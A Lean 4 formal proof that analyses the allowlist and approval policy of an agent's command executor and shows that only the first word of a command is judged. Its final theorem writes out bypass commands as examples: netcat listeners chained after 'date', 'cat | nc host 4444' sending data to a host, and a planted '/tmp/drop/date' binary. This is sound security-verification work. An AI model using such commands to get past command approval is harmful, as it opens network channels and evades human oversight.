/-
  Flowly.Exec.Executor — which commands are run without asking (`flowly/exec/executor.py`:
  the policy of `execute_command`; `flowly/exec/approvals.py`: `check_allowlist`,
  `requires_approval`).

  The analysis judges one word, the first one that `shlex` finds in the first segment of
  the pipe. What else the shell starts for the command is not looked at.

  Proved (`runs_allowed_iff`): for which commands every allowlist is sound, that is, a
  command that runs without asking starts only programs the policy allows. Whatever the
  shell does with a command, it is sound exactly when it carries no risk the analysis sees
  only if its other programs are covered by the judged word: all of them safe binaries
  where that word passes for one, and else safe or the file the judged word is. The shell
  is not modelled; of it we only use what a list of plain simple commands starts
  (`Shell.simpleCommands`), so for those the condition is one on their names. For one
  simple command, without `|` anywhere and without another operator outside quotes, the
  judged word is the only program, and what remains is that it is no path whose last part
  is the name of a safe binary (`/tmp/drop/date`).

  A list (`date ; nc -l 4444`), a background job and a later segment of a pipe are run
  with all they name (`the_first_word_is_judged`).
-/

import Flowly.Exec.Approvals
import Flowly.Exec.Safety
import Flowly.Lib.Shell

namespace Flowly.Exec.Executor

open Flowly.Lib Flowly.Exec.Safety
open Flowly.Exec.Approvals (ExecSecurity ExecAsk AllowlistEntry ExecApprovalsConfig)

/-- The analysis, and `fnmatch` of a pattern of the allowlist with a path. -/
structure Checks where
  sys : System
  hits : String → String → Bool

section Policy

variable (ck : Checks) (now : Int)

/-- `store.check_allowlist`. -/
def storeAllows (config : ExecApprovalsConfig) (resolvedPath : Option Text) : Bool :=
  match resolvedPath.filter (· ≠ []) with
  | none => false
  | some path => (config.checkAllowlist ck.hits now (String.ofList path)).isSome

/-- `Path(executable).name if '/' in executable else executable`. -/
def baseName (executable : Text) : Text :=
  if executable.any (· = '/') then (PosixPath.parse executable).name else executable

def checkAllowlist (config : ExecApprovalsConfig) (resolvedPath executable : Option Text) : Bool :=
  (executable.filter (· ≠ [])).any (fun executable => safeBins.contains (baseName executable)) || storeAllows ck now config resolvedPath

def requiresApproval (config : ExecApprovalsConfig) (analysisOk allowlistSatisfied : Bool) : Bool :=
  config.ask = .always || (config.ask = .onMiss && config.security = .allowlist && (!analysisOk || !allowlistSatisfied))

/-- What `execute_command` does with a command, before the command is run. -/
inductive Policy where
  | disabled
  | rejected (reason : Option String)
  | deniedByPolicy
  | asks
  | notInAllowlist
  | runs
  deriving DecidableEq

def executePolicy (enabled : Bool) (config : ExecApprovalsConfig) (a : CommandAnalysis) : Policy :=
  if !enabled then .disabled
  else if !a.ok then .rejected a.reason
  else if config.security = .deny then .deniedByPolicy
  else
    let allowlistOk := config.security = .allowlist && checkAllowlist ck now config a.resolvedPath a.executable
    let forceApproval := a.hasDangerousChars && !(config.security = .full && config.ask = .off)
    if forceApproval || requiresApproval config a.ok allowlistOk then .asks
    else if config.security = .allowlist && !allowlistOk && !a.isSafeBin then .notInAllowlist
    else .runs

/-- The command is run and nobody is asked. -/
def RunsUnasked (enabled : Bool) (config : ExecApprovalsConfig) (command : Text) : Prop :=
  (analyzeCommand ck.sys command).map (executePolicy ck now enabled config) = some .runs

instance (enabled : Bool) (config : ExecApprovalsConfig) (command : Text) : Decidable (RunsUnasked ck now enabled config command) :=
  inferInstanceAs (Decidable (_ = _))

end Policy

section Programs

variable (ck : Checks)

/-- The word resolves to a path that a pattern of the allowlist matches. -/
def Listed (config : ExecApprovalsConfig) (w : Text) : Prop :=
  ∃ path ∈ ck.sys.resolve w, ∃ e ∈ config.allowlist, ck.hits e.pattern (String.ofList path) = true

/-- A program that may be started: a safe binary, found through `PATH` since none of their
    names is a path, or one that is listed. -/
def Allowed (config : ExecApprovalsConfig) (w : Text) : Prop := w ∈ safeBins ∨ Listed ck config w

instance (config : ExecApprovalsConfig) (w : Text) : Decidable (Listed ck config w) :=
  inferInstanceAs (Decidable (∃ path ∈ ck.sys.resolve w, _))

instance (config : ExecApprovalsConfig) (w : Text) : Decidable (Allowed ck config w) := inferInstanceAs (Decidable (_ ∨ _))

/-- The word the analysis takes for the program. -/
def judged (command : Text) : Option Text :=
  let command := Text.strip command
  if Text.contains command ['|'] && !Text.contains command "||".toList then
    match splitPipeline command with
    | [] => none
    | first :: _ => (parseCommand first).1
  else (parseCommand command).1

/-- The analysis takes the command, and sees no risk in it. -/
def Unrisky (sys : System) (command : Text) : Prop :=
  ∃ a, analyzeCommand sys command = some a ∧ a.ok = true ∧ a.hasDangerousChars = false

/-- The words behind the programs of a command that runs unasked are allowed, whatever is listed. -/
def Sound (programs : Text → List Text) (command : Text) : Prop :=
  ∀ now enabled config, config.security = .allowlist → config.ask ∈ [ExecAsk.off, .onMiss] →
    RunsUnasked ck now enabled config command → ∀ w ∈ programs command, Allowed ck config w

/-- The judged word stands for the others: where it passes for a safe binary all are, and
    else each is one or is the file that the judged word is. -/
def Covered (sys : System) (word : Option Text) (ws : List Text) : Prop :=
  ∀ w ∈ word, w ≠ [] →
    (baseName w ∈ safeBins → ∀ p ∈ ws, p ∈ safeBins) ∧
      (baseName w ∉ safeBins → ∀ path ∈ sys.resolve w, path ≠ [] → ∀ p ∈ ws, p ∈ safeBins ∨ sys.resolve p = some path)

/-- One simple command under the name `w`: no `|` in it, and no other operator outside quotes. -/
structure Plain (command w : Text) : Prop where
  stripped : Text.strip command = command
  noBar : '|' ∉ command
  name : Shell.isName w
  alone : ∃ rest, Shell.lex command = some (.word w :: rest) ∧ (rest = [] ∨ rest.head? = some .gap) ∧ ∀ c, .op c ∉ rest

/-- A path that ends in the name of a safe binary. -/
def LooksSafe (w : Text) : Prop := w.any (· = '/') = true ∧ (PosixPath.parse w).name ∈ safeBins

instance (w : Text) : Decidable (LooksSafe w) := inferInstanceAs (Decidable (_ ∧ _))

end Programs

section Judged

variable {ck : Checks} {config : ExecApprovalsConfig} {command : Text}

theorem isSome_use {f : AllowlistEntry → Bool} {mark : AllowlistEntry → AllowlistEntry} {l : List AllowlistEntry} :
    (ExecApprovalsConfig.use f mark l).isSome = true ↔ ∃ e ∈ l, f e = true := by
  induction l with
  | nil => simp [ExecApprovalsConfig.use]
  | cons e l ih =>
    unfold ExecApprovalsConfig.use
    cases hf : f e with
    | true => simp [hf]
    | false => simpa [hf] using ih

/-- What the store allows of a word that is resolved. -/
theorem storeAllows_iff {now : Int} {resolved : Option Text} :
    storeAllows ck now config resolved = true ↔
      ∃ path ∈ resolved, path ≠ [] ∧ ∃ e ∈ config.allowlist, ck.hits e.pattern (String.ofList path) = true := by
  unfold storeAllows
  cases hpath : resolved.filter (· ≠ []) with
  | none =>
    refine ⟨fun h => (by cases h), ?_⟩
    rintro ⟨path, hres, hne, -⟩
    have hsome : resolved.filter (· ≠ []) = some path := Option.filter_eq_some_iff.2 ⟨hres, decide_eq_true hne⟩
    rw [hsome] at hpath
    cases hpath
  | some path =>
    obtain ⟨hres, hne⟩ := Option.filter_eq_some_iff.1 hpath
    have hsome : (config.checkAllowlist ck.hits now (String.ofList path)).isSome = true ↔
        ∃ e ∈ config.allowlist, ck.hits e.pattern (String.ofList path) = true := by
      unfold ExecApprovalsConfig.checkAllowlist
      rw [Option.isSome_map, isSome_use]
    refine hsome.trans ⟨?_, ?_⟩
    · exact fun h => ⟨path, hres, of_decide_eq_true hne, h⟩
    · rintro ⟨path', hres', -, h⟩
      rw [hres] at hres'
      cases hres'
      exact h

/-- A name without a slash is its own last part. -/
theorem parse_name {e : Text} (hslash : e.any (· = '/') = false) (hne : e ≠ []) (hdot : e ≠ ['.']) : (PosixPath.parse e).name = e := by
  have hnot : '/' ∉ e := by
    intro hin
    rw [List.any_eq_false] at hslash
    exact hslash _ hin (decide_eq_true rfl)
  unfold PosixPath.parse PosixPath.name
  dsimp only
  rw [List.splitOn_eq_singleton hnot, List.filter_cons_of_pos (by simp [hne, hdot])]
  rfl

theorem baseName_of_isSafeBin {e : Text} {args : List Text} (hne : e ≠ []) (h : isSafeBin ck.sys e args = true) : baseName e ∈ safeBins := by
  unfold isSafeBin at h
  rw [Bool.and_eq_true, List.contains_iff_mem] at h
  have hin := h.1
  unfold baseName
  cases hslash : e.any (· = '/') with
  | true =>
    have hany : (e.any fun c => decide (c = '/' ∨ c = '\\')) = true := by
      obtain ⟨c, hc, heq⟩ := List.any_eq_true.1 hslash
      exact List.any_eq_true.2 ⟨c, hc, by simp [of_decide_eq_true heq]⟩
    rw [hany] at hin
    exact hin
  | false =>
    rw [if_neg Bool.false_ne_true]
    cases hany : (e.any fun c => decide (c = '/' ∨ c = '\\')) with
    | false =>
      rw [hany] at hin
      exact hin
    | true =>
      have hdot : e ≠ ['.'] := by
        intro heq
        rw [heq] at hany
        exact absurd hany (by decide)
      rw [hany, if_pos rfl, parse_name hslash hne hdot] at hin
      exact hin

/-- What an analysis that is not a rejection says of the word it judged. -/
structure Analysed (sys : System) (word : Option Text) (a : CommandAnalysis) : Prop where
  executable : a.executable = word
  resolved : a.resolvedPath = (word.filter (· ≠ [])).bind sys.resolve
  safe : a.isSafeBin = true → ∃ name ∈ word, name ≠ [] ∧ ∃ args, isSafeBin sys name args = true

theorem analysed_pipeline (sys : System) (risks : List String) (first : Text) (rest : List Text) :
    Analysed sys (parseCommand first).1 (analyzePipeline sys risks first rest) := by
  unfold analyzePipeline
  generalize parseCommand first = parsed
  obtain ⟨word, args⟩ := parsed
  refine ⟨rfl, rfl, ?_⟩
  intro hsafe
  obtain ⟨name, hname, hbin⟩ := (Option.any_eq_true _ _).1 hsafe
  obtain ⟨hword, hne⟩ := Option.filter_eq_some_iff.1 hname
  exact ⟨name, hword, of_decide_eq_true hne, args, hbin⟩

theorem analysed_single {sys : System} {risks : List String} {command : Text} (hok : (analyzeSingle sys risks command).ok = true) :
    Analysed sys (parseCommand command).1 (analyzeSingle sys risks command) := by
  unfold analyzeSingle at hok ⊢
  generalize parseCommand command = parsed at hok ⊢
  obtain ⟨word, args⟩ := parsed
  dsimp only at hok ⊢
  cases hname : word.filter (· ≠ []) with
  | none =>
    rw [hname] at hok
    cases hok
  | some name =>
    obtain ⟨hword, hne⟩ := Option.filter_eq_some_iff.1 hname
    refine ⟨hword.symm, ?_, ?_⟩
    · rw [hname]
      rfl
    · exact fun hbin => ⟨name, hword, of_decide_eq_true hne, args, hbin⟩

theorem analysed {a : CommandAnalysis} (h : analyzeCommand ck.sys command = some a) (hok : a.ok = true) :
    Analysed ck.sys (judged command) a := by
  unfold analyzeCommand at h
  unfold judged
  dsimp only at h ⊢
  split at h
  · cases h
    cases hok
  · split at h
    · cases h
      cases hok
    · obtain ⟨flagged, -, hres⟩ := Option.map_eq_some_iff.1 h
      cases flagged with
      | cons path more =>
        rw [← hres] at hok
        cases hok
      | nil =>
        dsimp only at hres
        split at hres
        · next hpipe =>
          rw [if_pos hpipe]
          cases hseg : splitPipeline (Text.strip command) with
          | nil =>
            simp only [hseg] at hres
            rw [← hres] at hok
            cases hok
          | cons first rest =>
            simp only [hseg] at hres
            rw [← hres]
            exact analysed_pipeline _ _ _ _
        · next hpipe =>
          rw [if_neg hpipe]
          rw [← hres] at hok ⊢
          exact analysed_single hok

/-- What passed when a command runs unasked. -/
theorem judged_passed {now : Int} {enabled : Bool} (hsec : config.security = .allowlist) (hrun : RunsUnasked ck now enabled config command) :
    Unrisky ck.sys command ∧ ∃ w, judged command = some w ∧ w ≠ [] ∧ (baseName w ∈ safeBins ∨
      ∃ path ∈ ck.sys.resolve w, path ≠ [] ∧ ∃ e ∈ config.allowlist, ck.hits e.pattern (String.ofList path) = true) := by
  obtain ⟨a, ha, hpolicy⟩ := Option.map_eq_some_iff.1 hrun
  unfold executePolicy at hpolicy
  split at hpolicy
  · cases hpolicy
  · split at hpolicy
    · cases hpolicy
    · next hok =>
      have hok : a.ok = true := by simpa using hok
      obtain ⟨hexec, hres, hsafe⟩ := analysed ha hok
      rw [if_neg (by rw [hsec]; decide), hsec] at hpolicy
      dsimp only at hpolicy
      split at hpolicy
      · cases hpolicy
      · next hask =>
        have hrisk : a.hasDangerousChars = false := by
          rw [Bool.or_eq_true, not_or, Bool.and_eq_true, not_and] at hask
          exact Bool.eq_false_iff.2 fun hd => hask.1 hd rfl
        refine ⟨⟨a, ha, hok, hrisk⟩, ?_⟩
        split at hpolicy
        · cases hpolicy
        · next hpass =>
          rw [decide_eq_true rfl, Bool.true_and, Bool.true_and, Bool.and_eq_true, Bool.not_eq_true', Bool.not_eq_true',
            not_and_or, Bool.not_eq_false, Bool.not_eq_false] at hpass
          rcases hpass with hpass | hpass
          · unfold checkAllowlist at hpass
            rw [Bool.or_eq_true, hexec, hres] at hpass
            rcases hpass with hbin | hstore
            · obtain ⟨w, hw, hbin⟩ := (Option.any_eq_true _ _).1 hbin
              obtain ⟨hw, hne⟩ := Option.filter_eq_some_iff.1 hw
              exact ⟨w, hw, of_decide_eq_true hne, .inl (List.contains_iff_mem.1 hbin)⟩
            · cases hw : (judged command).filter (· ≠ []) with
              | none =>
                rw [hw] at hstore
                cases hstore
              | some w =>
                rw [hw] at hstore
                obtain ⟨hw, hne⟩ := Option.filter_eq_some_iff.1 hw
                exact ⟨w, hw, of_decide_eq_true hne, .inr (storeAllows_iff.1 hstore)⟩
          · obtain ⟨w, hw, hne, args, hbin⟩ := hsafe hpass
            exact ⟨w, hw, hne, .inl (baseName_of_isSafeBin hne hbin)⟩

/-- What passes runs unasked where the analysis sees no risk, whether misses are asked about or not. -/
theorem runs_of_passed {now : Int} (hsec : config.security = .allowlist) (hask : config.ask = .off) (hrisk : Unrisky ck.sys command) {w : Text}
    (hw : judged command = some w) (hne : w ≠ []) (hpass : baseName w ∈ safeBins ∨ storeAllows ck now config (ck.sys.resolve w) = true) :
    RunsUnasked ck now true config command := by
  obtain ⟨a, ha, hok, hdanger⟩ := hrisk
  obtain ⟨hexec, hres, -⟩ := analysed ha hok
  have hnamed : (judged command).filter (· ≠ []) = some w := Option.filter_eq_some_iff.2 ⟨hw, decide_eq_true hne⟩
  have hallow : checkAllowlist ck now config a.resolvedPath a.executable = true := by
    unfold checkAllowlist
    rw [hexec, hres, hnamed, Bool.or_eq_true]
    exact hpass.imp List.contains_iff_mem.2 id
  unfold RunsUnasked
  rw [ha]
  show some (executePolicy ck now true config a) = _
  unfold executePolicy requiresApproval
  rw [hok, hsec, hask, hdanger, hallow]
  rfl

end Judged

/-! ## What is run -/

theorem safeBins_no_slash : ∀ w ∈ safeBins, w.any (· = '/') = false := by decide

theorem contains_singleton {t : Text} {c : Char} (h : Text.contains t [c] = true) : c ∈ t := by
  unfold Text.contains at h
  induction t with
  | nil => cases h
  | cons x t ih =>
    unfold Text.find at h
    split_ifs at h with hpre
    · have hx : c = x := by simpa using hpre
      exact hx ▸ List.mem_cons_self
    · rw [Option.isSome_map] at h
      exact .tail _ (ih h)

section Plain

variable {command w : Text}

/-- Of a plain command the analysis judges the name. -/
theorem Plain.judged_eq (h : Plain command w) : judged command = some w := by
  obtain ⟨rest, hlex, hrest, -⟩ := h.alone
  have hbar : Text.contains command ['|'] = false := Bool.eq_false_iff.2 fun hbar => h.noBar (contains_singleton hbar)
  have hsplit : ∃ args, Shlex.split command = some (w :: args) := by
    rw [Shell.split_of_lex hlex]
    rcases hrest with rfl | hrest
    · exact ⟨[], rfl⟩
    · obtain ⟨more, rfl⟩ := List.head?_eq_some_iff.1 hrest
      exact ⟨_, rfl⟩
  obtain ⟨args, hsplit⟩ := hsplit
  unfold judged
  dsimp only
  rw [h.stripped, hbar, Bool.false_and, if_neg Bool.false_ne_true]
  unfold parseCommand
  rw [hsplit]

/-- And the name is all that a plain command starts. -/
theorem Plain.simpleCommands_eq (h : Plain command w) : Shell.simpleCommands command = some [w] := by
  obtain ⟨rest, hlex, -, hop⟩ := h.alone
  unfold Shell.simpleCommands
  rw [hlex]
  show Shell.names .must (.word w :: rest) = _
  rw [Shell.names, if_neg (by decide), if_pos h.name, Shell.names_args hop]
  rfl

theorem Plain.ne_nil (h : Plain command w) : w ≠ [] := by
  rintro rfl
  exact absurd h.name (by decide)

theorem covered_self_iff {sys : System} (hne : w ≠ []) : Covered sys (some w) [w] ↔ ¬ LooksSafe w := by
  unfold LooksSafe
  constructor
  · rintro h ⟨hslash, hsafe⟩
    have hself := (h w rfl hne).1
    unfold baseName at hself
    rw [if_pos hslash] at hself
    have hno := safeBins_no_slash w (hself hsafe w List.mem_cons_self)
    rw [hslash] at hno
    cases hno
  · intro h w' hw' _
    obtain rfl := Option.some.inj hw'
    unfold baseName
    cases hslash : w.any (· = '/') with
    | true =>
      rw [if_pos rfl]
      refine ⟨fun hsafe => absurd ⟨hslash, hsafe⟩ h, ?_⟩
      rintro - path hpath - p hp
      obtain rfl := List.mem_singleton.1 hp
      exact .inr hpath
    | false =>
      rw [if_neg Bool.false_ne_true]
      constructor
      · intro hsafe p hp
        obtain rfl := List.mem_singleton.1 hp
        exact hsafe
      · rintro - path hpath - p hp
        obtain rfl := List.mem_singleton.1 hp
        exact .inr hpath

end Plain

section Main

variable {ck : Checks} {programs : Text → List Text} {command : Text}

theorem sound_of_covered (h : Unrisky ck.sys command → Covered ck.sys (judged command) (programs command)) : Sound ck programs command := by
  intro now enabled config hsec _ hrun p hp
  obtain ⟨hrisk, w, hw, hne, hpass⟩ := judged_passed hsec hrun
  have hcov := h hrisk w hw hne
  by_cases hsafe : baseName w ∈ safeBins
  · exact .inl (hcov.1 hsafe p hp)
  · obtain ⟨path, hres, hpath, e, he, hhits⟩ := hpass.resolve_left hsafe
    rcases hcov.2 hsafe path hres hpath p hp with hbin | hsame
    · exact .inl hbin
    · exact .inr ⟨path, hsame, e, he, hhits⟩

/-- A word that passes for a safe binary needs no allowlist, and any other one that lists
    its own file only. -/
theorem covered_of_sound (hliteral : ∀ path, ∃ pattern, ∀ q, ck.hits pattern q = true ↔ q = path) (h : Sound ck programs command)
    (hrisk : Unrisky ck.sys command) : Covered ck.sys (judged command) (programs command) := by
  intro w hw hne
  constructor
  · intro hsafe p hp
    have hrun : RunsUnasked ck 0 true { security := .allowlist, ask := .off, allowlist := [] } command :=
      runs_of_passed rfl rfl hrisk hw hne (.inl hsafe)
    rcases h _ _ _ rfl List.mem_cons_self hrun p hp with hbin | ⟨_, _, e, he, _⟩
    · exact hbin
    · cases he
  · intro _ path hres hpath p hp
    obtain ⟨pattern, hpattern⟩ := hliteral (String.ofList path)
    have hstore : storeAllows ck 0 { security := .allowlist, ask := .off, allowlist := [{ pattern }] } (ck.sys.resolve w) = true :=
      storeAllows_iff.2 ⟨path, hres, hpath, _, List.mem_cons_self, (hpattern _).2 rfl⟩
    rcases h _ _ _ rfl List.mem_cons_self (runs_of_passed rfl rfl hrisk hw hne (.inr hstore)) p hp with hbin | ⟨path', hres', e, he, hhits⟩
    · exact .inl hbin
    · obtain rfl := List.mem_singleton.1 he
      have heq : path' = path := String.ofList_injective ((hpattern _).1 hhits)
      exact .inr (heq ▸ hres')

/-- `programs` are the words behind the programs that the shell starts for a command. It
    starts what a list of simple commands names; a literal pattern matches its own path. -/
theorem runs_allowed_iff (ck : Checks) (programs : Text → List Text)
    (hshell : ∀ command ws, Shell.simpleCommands command = some ws → programs command = ws)
    (hliteral : ∀ path, ∃ pattern, ∀ q, ck.hits pattern q = true ↔ q = path) (command : Text) :
    (Sound ck programs command ↔ (Unrisky ck.sys command → Covered ck.sys (judged command) (programs command))) ∧
    (∀ ws, Shell.simpleCommands command = some ws →
      (Sound ck programs command ↔ (Unrisky ck.sys command → Covered ck.sys (judged command) ws))) ∧
    ∀ w, Plain command w → programs command = [w] ∧ judged command = some w ∧
      (Sound ck programs command ↔ (Unrisky ck.sys command → ¬ LooksSafe w)) := by
  have hall : Sound ck programs command ↔ (Unrisky ck.sys command → Covered ck.sys (judged command) (programs command)) :=
    ⟨covered_of_sound hliteral, sound_of_covered⟩
  refine ⟨hall, ?_, ?_⟩
  · intro ws hws
    rw [hall, hshell command ws hws]
  · intro w hplain
    have hprograms := hshell command [w] hplain.simpleCommands_eq
    refine ⟨hprograms, hplain.judged_eq, ?_⟩
    rw [hall, hprograms, hplain.judged_eq, covered_self_iff hplain.ne_nil]

end Main

namespace Sample

def checks : Checks := { sys := Safety.Sample.system, hits := fun pattern path => pattern = path }

def config (ask : ExecAsk) : ExecApprovalsConfig := { security := .allowlist, ask, allowlist := [{ pattern := "/usr/bin/git" }] }

/-- A shell that runs lists of simple commands. -/
def programs (command : Text) : List Text := (Shell.simpleCommands command).getD []

theorem git_plain : Plain "git log 'a b'".toList "git".toList := by
  repeat rw [String.toList_ofList]
  exact ⟨by decide, by decide, by decide +kernel, [.gap, .word ['l', 'o', 'g'], .gap, .word ['a', ' ', 'b']], by decide, .inr rfl, by simp⟩

theorem runs_allowed_git : programs "git log 'a b'".toList = ["git".toList] ∧ Sound checks programs "git log 'a b'".toList := by
  have h := (runs_allowed_iff checks programs (fun _ _ h => congrArg (Option.getD · []) h)
    (fun path => ⟨path, fun q => by simpa [checks] using eq_comm⟩) "git log 'a b'".toList).2.2 "git".toList git_plain
  exact ⟨h.1, h.2.2.2 fun _ => by decide +kernel⟩

end Sample

def Slips (ask : ExecAsk) (command : String) : Prop :=
  RunsUnasked Sample.checks 0 true (Sample.config ask) command.toList ∧
    ¬ ∀ w ∈ Sample.programs command.toList, Allowed Sample.checks (Sample.config ask) w

instance (ask : ExecAsk) (command : String) : Decidable (Slips ask command) := inferInstanceAs (Decidable (_ ∧ ¬ ∀ w ∈ _, _))

/-- A list, a background job, a later segment of a pipe, and a path that ends in the name of
    a safe binary. -/
theorem the_first_word_is_judged :
    (Slips .off "date ; nc -l 4444" ∧ Slips .onMiss "date ; nc -l 4444") ∧ (Slips .off "date & nc -l 4444" ∧ Slips .onMiss "date & nc -l 4444") ∧
    (Slips .off "cat | nc host 4444" ∧ Slips .onMiss "cat | nc host 4444") ∧ Slips .off "/tmp/drop/date" ∧ Slips .onMiss "/tmp/drop/date" := by
  unfold Slips
  repeat rw [String.toList_ofList]
  decide +kernel

end Flowly.Exec.Executor
